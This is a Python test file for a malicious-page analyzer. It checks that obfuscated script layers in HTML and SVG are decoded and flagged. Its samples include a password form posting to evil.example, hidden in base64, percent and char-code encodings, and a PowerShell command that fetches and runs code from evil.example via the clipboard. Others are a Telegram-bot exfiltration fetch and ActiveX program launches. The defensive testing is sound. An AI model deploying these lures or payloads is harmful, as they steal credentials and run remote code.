"""Scripts of pages and drawings show their layers; pages they decode are examined in turn."""

from __future__ import annotations

import base64

import pytest

from analyzers.attachments.page_scripts import UNIT
from analyzers.model.content import Link
from analyzers.model.observation import Child, Finding, Severity
from analyzers.model.script import ScriptCall, ScriptLayer
from tests.analyzers.lib.pages import BODY, FILE, findings, observe

FORM = '<form action="https://evil.example/take"><input type="password" name="p"></form>'
PERCENT = "".join(f"%{byte:02x}" for byte in FORM.encode())
BASE64 = base64.b64encode(FORM.encode()).decode()
COMMAND = "powershell -w hidden -c iex(irm http://evil.example/a)"
WAYS = {
    "unescape": f"document.write(unescape('{PERCENT}'));",
    "atob": f"document.write(atob('{BASE64}'));",
    "joined": f"var a=['{BASE64[:30]}','{BASE64[30:]}'];document.write(atob(a.join('')));",
    "codes": f"document.write(String.fromCharCode({','.join(map(str, FORM.encode()))}));",
    "inner": f"document.body.innerHTML=atob('{BASE64}');",
    "eval": "eval(atob('"
    + base64.b64encode(f"document.write('{FORM}')".encode()).decode()
    + "'));",
}


@pytest.mark.parametrize("way", WAYS)
def test_a_page_that_a_script_writes_is_handed_on(way: str) -> None:
    seen = observe(f"<script>{WAYS[way]}</script>", UNIT, FILE)
    children = [one for one in seen if isinstance(one, Child)]
    assert FORM.encode() in [child.data for child in children]
    assert findings(seen)["html.script.layers"].severity is Severity.MEDIUM
    assert any(one.depth for one in seen if isinstance(one, ScriptLayer))


def test_a_drawing_counts_as_a_page() -> None:
    drawing = f'<svg onload="{WAYS["atob"]}"><script><![CDATA[{WAYS["codes"]}]]></script></svg>'
    seen = observe(drawing, UNIT, FILE, "svg")
    assert [one.data for one in seen if isinstance(one, Child)] == [FORM.encode()]
    address = f'<svg><a href="javascript:{WAYS["atob"]}">x</a></svg>'.replace("'", "&#39;")
    assert "html.script.layers" in findings(observe(address, UNIT, FILE, "svg"))


def test_a_command_for_the_clipboard_is_the_gravest() -> None:
    source = f"<script>var c='{COMMAND}';navigator.clipboard.writeText(c);</script>"
    finding = findings(observe(source, UNIT, FILE))["html.script.clipboard"]
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence == COMMAND
    inside = findings(observe(source, UNIT, BODY))["html.script.clipboard"]
    assert inside.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("fetch('https://api.telegram.org/bot1:x/sendMessage')", "html.script.exfiltrates"),
        ("new ActiveXObject('WScript.Shell').Run('calc')", "html.script.program"),
        ("location='search-ms:query=a&crumb=location:x'", "html.script.program"),
    ],
)
def test_what_pages_seldom_do_is_told(script: str, rule: str) -> None:
    assert findings(observe(f"<script>{script}</script>", UNIT, FILE))[rule].severity >= 3


def test_calls_name_their_technique() -> None:
    seen = observe(f"<script>\nx=atob('{BASE64}')</script>", UNIT, FILE)
    call = next(one for one in seen if isinstance(one, ScriptCall))
    assert (call.name, call.technique, call.line) == ("atob", "T1140", 2)


def test_addresses_of_decoded_layers_are_links() -> None:
    hidden = base64.b64encode(b"window.location.href='https://evil.example/next'").decode()
    seen = observe(f"<script>eval(atob('{hidden}'))</script>", UNIT, FILE)
    assert [one.host for one in seen if isinstance(one, Link)] == ["evil.example"]


HONEST = {
    "plain": "<script>var a=1;function f(){return a+1}f();</script>",
    "remote": '<script src="https://a.example/x.js"></script>',
    "timer": "<script>setTimeout('f()',100);document.write('<p>hello there</p>');</script>",
    "menu": "<script>document.getElementById('m').innerHTML='<b>a</b>'+'<i>b</i>';</script>",
    "copy": "<script>navigator.clipboard.writeText('Copied text of a page')</script>",
    "none": "<p>text</p>",
}


@pytest.mark.parametrize("name", HONEST)
def test_ordinary_pages_have_no_finding(name: str) -> None:
    seen = observe(HONEST[name], UNIT, FILE)
    assert [one for one in seen if isinstance(one, Finding)] == []
